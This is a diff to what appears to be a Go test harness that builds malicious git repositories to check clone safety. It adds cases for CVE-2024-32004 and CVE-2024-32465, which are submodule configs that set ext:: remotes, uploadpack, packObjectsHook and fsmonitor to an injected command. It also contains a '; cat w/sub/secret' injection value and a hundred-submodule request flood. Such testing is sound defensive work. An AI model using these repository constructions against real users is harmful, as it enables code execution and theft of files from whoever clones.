@@ -52,6 +52,14 @@ func moduleCases() []Case {
 			Effect: Reads, Control: careless + `; cat w/sub/secret`, build: local(""),
 		},
 		{
+			Name: "module-local-promisor", Abuses: "a submodule on the disk of who clones lacks an object and names a command to get it from", CVE: "CVE-2024-32004",
+			build: promisor("[remote \"origin\"]\n\turl = EXTERNAL\n\tpromisor = true\n[protocol]\n\tallow = always\n"),
+		},
+		{
+			Name: "module-local-hooks", Abuses: "a submodule on the disk of who clones has settings and hooks that its server side runs", CVE: "CVE-2024-32465",
+			build: promisor("[remote \"origin\"]\n\turl = /nothing\n\tuploadpack = COMMAND\n\tpromisor = true\n[uploadpack]\n\tpackObjectsHook = COMMAND\n[core]\n\tfsmonitor = COMMAND\n"),
+		},
+		{
 			Name: "module-branch-option", Abuses: "a submodule's branch is an option of git fetch",
 			build: func(r *repo, b Bait) {
 				sub := r.side("sub")
@@ -76,13 +84,13 @@ func moduleCases() []Case {
 			}),
 		},
 		{
-			Name: "module-many", Abuses: "a thousand submodules make who clones ask one server a thousand times",
+			Name: "module-many", Abuses: "a hundred submodules make who clones ask one server a hundred times and more",
 			Effect: Asks, Control: cloneAll,
 			build: func(r *repo, b Bait) {
 				var modules strings.Builder
 				entries := []entry{}
-				for i := range 1000 {
-					name := fmt.Sprintf("sub%03d", i)
+				for i := range 100 {
+					name := fmt.Sprintf("sub%02d", i)
 					modules.WriteString(section(name, name, fmt.Sprintf("%s/%d", b.URL, i)))
 					entries = append(entries, entry{mode: gitl, name: name, content: nowhere})
 				}
@@ -141,6 +149,18 @@ func local(scheme string) func(*repo, Bait) {
 		id := sub.files(entry{mode: file, name: "secret", content: Secret})
 		r.check(sub.err)
 		r.files(entry{mode: file, name: ".gitmodules", content: section("sub", "sub", scheme+sub.path)}, entry{mode: gitl, name: "sub", content: id})
+	}
+}
+
+// promisor is a submodule on the disk of who clones, which lacks a blob and has the settings.
+func promisor(settings string) func(*repo, Bait) {
+	return func(r *repo, b Bait) {
+		sub := r.side("private")
+		id := sub.files(entry{mode: file, name: "a", id: nowhere})
+		sub.write("config", "[core]\n\trepositoryformatversion = 1\n\tbare = true\n[extensions]\n\tpartialClone = origin\n"+
+			strings.NewReplacer("COMMAND", value(b.command()), "EXTERNAL", value("ext::"+b.command())).Replace(settings))
+		r.check(sub.err)
+		r.files(entry{mode: file, name: ".gitmodules", content: section("sub", "sub", sub.path)}, entry{mode: gitl, name: "sub", content: id})
 	}
 }
 
